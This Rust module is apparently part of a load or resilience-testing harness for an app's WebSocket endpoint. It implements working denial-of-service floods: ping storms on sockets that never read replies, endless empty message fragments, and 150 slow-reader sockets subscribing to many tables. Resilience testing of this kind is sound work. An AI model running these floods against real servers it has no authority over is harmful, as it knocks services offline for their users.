//! Attacks with frames, over sockets that were opened without a key.

use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::attacker::{Target, Tasks};

/// The number of sockets that send frames.
const SENDERS: usize = 16;
/// The number of sockets that follow tables and read nothing.
const READERS: usize = 150;
/// How many tables a socket can follow.
const MAX_FOLLOWED: usize = 64;
/// How many frames are sent at once.
const BATCH: usize = 512;
/// How long to wait after the server has refused or closed a connection.
const PAUSE: Duration = Duration::from_millis(20);

/// The first byte of a frame with a whole text.
const TEXT: u8 = 0x81;
/// The first byte of a ping.
const PING: u8 = 0x89;
/// The first byte of the first fragment of a text.
const FIRST_FRAGMENT: u8 = 0x01;
/// The first byte of a further fragment.
const NEXT_FRAGMENT: u8 = 0x00;

/// A frame with at most 65,535 bytes, masked with zeros, which change nothing.
fn frame(first_byte: u8, payload: &[u8]) -> Vec<u8> {
    const MASKED: u8 = 0x80;
    let length = payload.len() as u16;
    let head = match length {
        0..126 => vec![first_byte, MASKED | length as u8],
        _ => [&[first_byte, MASKED | 0x7e][..], &length.to_be_bytes()].concat(),
    };
    [&head, &[0; 4][..], payload].concat()
}

/// Sends pings. Half of the sockets read nothing.
pub(super) fn pings(target: &Target) -> Tasks {
    flood(target, b"", &frame(PING, &[b'x'; 125]))
}

/// Sends empty fragments of a message that has no end.
pub(super) fn fragments(target: &Target) -> Tasks {
    flood(target, &frame(FIRST_FRAGMENT, b""), &frame(NEXT_FRAGMENT, b""))
}

/// Sends one frame first, and then the other again and again, over several sockets.
fn flood(target: &Target, first: &[u8], frame: &[u8]) -> Tasks {
    let batch = frame.repeat(BATCH);
    let mut tasks = Tasks::new();
    for number in 0..SENDERS {
        let (target, first, batch) = (target.clone(), first.to_vec(), batch.clone());
        tasks.spawn_local(async move {
            loop {
                let _ = send_all(&target, &first, &batch, number % 2 == 0).await;
                target.tally.answered(false);
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    tasks
}

/// Sends frames until the server closes the connection.
async fn send_all(target: &Target, first: &[u8], batch: &[u8], reads: bool) -> Option<()> {
    let stream = upgrade(target).await?;
    let (mut reader, mut writer) = stream.into_split();
    let reading = async {
        let mut buffer = [0; 4096];
        while reads && reader.read(&mut buffer).await.ok()? > 0 {}
        if reads { None } else { std::future::pending::<Option<()>>().await }
    };
    let writing = async {
        writer.write_all(first).await.ok()?;
        loop {
            writer.write_all(batch).await.ok()?;
            target.tally.add_sent(BATCH as u64);
        }
    };
    tokio::select! {
        read = reading => read,
        written = writing => written,
    }
}

/// Follows the tables of others with a view after every change, and reads nothing.
pub(super) fn readers(target: &Target) -> Tasks {
    let mut tasks = Tasks::new();
    for number in 0..READERS {
        let target = target.clone();
        tasks.spawn_local(async move {
            loop {
                let followed = follow_all(&target, number).await;
                target.tally.answered(false);
                if followed.is_none() {
                    tokio::time::sleep(PAUSE).await;
                }
            }
        });
    }
    tasks
}

/// Follows as many tables as possible, until the server closes the connection.
async fn follow_all(target: &Target, number: usize) -> Option<()> {
    let mut stream = upgrade(target).await?;
    target.tally.answered(true);
    let tables = target.tables.iter().cycle().skip(number * MAX_FOLLOWED);
    for table in tables.take(MAX_FOLLOWED.min(target.tables.len())) {
        let follow = json!({"table": table, "follow": {"views": true}}).to_string();
        stream.write_all(&frame(TEXT, follow.as_bytes())).await.ok()?;
        target.tally.add_sent(1);
    }
    // The end of the connection shows when something is sent.
    while stream.write_all(&frame(PING, b"")).await.is_ok() {
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    Some(())
}

/// Opens a WebSocket, and reads no more than the server's answer.
async fn upgrade(target: &Target) -> Option<TcpStream> {
    let mut stream = target.client.connect().await.ok()?;
    let request = "GET /api/socket HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                   sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
    stream.write_all(request.as_bytes()).await.ok()?;
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await.ok()?);
    }
    head.starts_with(b"HTTP/1.1 101").then_some(stream)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_masked() {
        assert_eq!(frame(PING, b"ab"), [0x89, 0x82, 0, 0, 0, 0, b'a', b'b']);
        let long = frame(TEXT, &[b'x'; 300]);
        assert_eq!((&long[..8], long.len()), (&[0x81, 0xfe, 1, 44, 0, 0, 0, 0][..], 308));
    }
}
